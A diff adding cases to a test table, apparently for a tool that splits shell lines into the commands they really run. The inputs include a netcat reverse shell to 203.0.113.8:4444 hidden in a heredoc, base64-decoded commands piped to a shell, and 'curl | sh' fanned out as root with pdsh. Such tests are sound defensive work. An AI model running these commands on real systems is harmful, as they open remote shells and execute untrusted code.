@@ -114,6 +114,10 @@ const CASES: Array<[string, string[]]> = [
   ["printf -v c '\\x69\\x64'; \"$c\"", ["printf -v c \\x69\\x64", 'id']],
   ["echo aWQ= | base64 -d | xargs -0 sh -c", ['echo aWQ=', 'base64 -d', 'sh -c id', 'shell-c:id']],
   ["echo aWQ= | base64 -d | awk '{system($0)}'", ['echo aWQ=', 'base64 -d', 'awk {system($0)}', 'piped-to-shell:id']],
+  // `sh -s -- args`: the heredoc is the script, the words its $1 and $2
+  ["sh -s -- 203.0.113.8 4444 <<'EOF'\nnc $1 $2 -e /bin/sh\nEOF", ['sh -s -- 203.0.113.8 4444', 'heredoc-to-shell:nc 203.0.113.8 4444 -e /bin/sh']],
+  // a script written by the line and then run by an interpreter is read as that interpreter's code
+  ["cat > /tmp/p.py <<'EOF'\nimport os; os.system('id')\nEOF\npython3 /tmp/p.py", ['cat', 'python3 /tmp/p.py', 'interpreter:id']],
   // the command a fan-out tool runs on every host
   ["pdsh -w web[01-20] -l root 'curl -s x | sh'", ['pdsh -w web[01-20] -l root curl -s x | sh', 'remote:curl -s x', 'remote:sh']],
   ["clush -b -w node[1-9] uptime", ['clush -b -w node[1-9] uptime', 'remote:uptime']],
